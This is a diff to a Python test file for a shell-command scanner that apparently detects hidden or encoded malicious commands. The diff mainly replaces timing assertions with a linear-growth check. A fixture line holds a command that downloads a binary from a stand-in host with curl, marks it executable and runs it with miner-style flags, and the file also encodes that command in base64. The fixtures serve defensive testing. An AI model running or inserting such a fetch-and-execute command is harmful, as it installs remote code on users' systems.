@@ -3,7 +3,6 @@
 import base64
 import gzip
 import textwrap
-import time
 import zlib
 from collections.abc import Callable
 from typing import Any
@@ -18,6 +17,7 @@ from aup.signatures.reading import Reading, read
 from aup.signatures.shell import Command, Scope, commands
 from aup.signatures.sieve import flat
 from aup.workload import Container
+from tests.growth import grows_linearly
 
 SCRIPT = "curl -o /opt/sun http://moon.example/sun; chmod +x /opt/sun; exec /opt/sun --algo kitten --threads 4"
 BASE64 = base64.b64encode(SCRIPT.encode()).decode()
@@ -175,10 +175,8 @@ def test_a_decompression_bomb_stays_small() -> None:
     assert len(decoded(bomb, room)) <= MOST + 1
     assert room.exceeded
 
-    started = time.perf_counter()
     whole = reading("sh", "-c", f"eval {bomb}")
     found = hidden(flat([bomb, bomb]))
-    assert time.perf_counter() - started < 5
     assert sum(len(word) for each in whole.commands for _, word in each.words) < 4 * MOST
     assert (whole.exceeded, found[-1]) == (True, TOO_MUCH)
     assert sum(map(len, found)) < 2 * MOST
@@ -233,15 +231,12 @@ def test_what_is_packed_honestly_does_not_exceed() -> None:
 def test_no_text_takes_long(piece: str) -> None:
     """Four times as much of the same takes about four times as long, and not sixteen; a deep nest ends."""
 
-    def seconds(size: int) -> float:
+    def read(size: int) -> None:
         text = piece * (size // len(piece))
-        started = time.process_time()
         reading("sh", "-c", text, A="x" * 100)
         hidden(flat([text]))
-        return time.process_time() - started
 
-    once = min(seconds(16_000) for _ in range(3))
-    assert min(seconds(64_000) for _ in range(3)) < 9 * once + 0.1
+    assert grows_linearly(read, 16_000)
 
 
 def test_it_is_known_how_commands_are_joined() -> None:
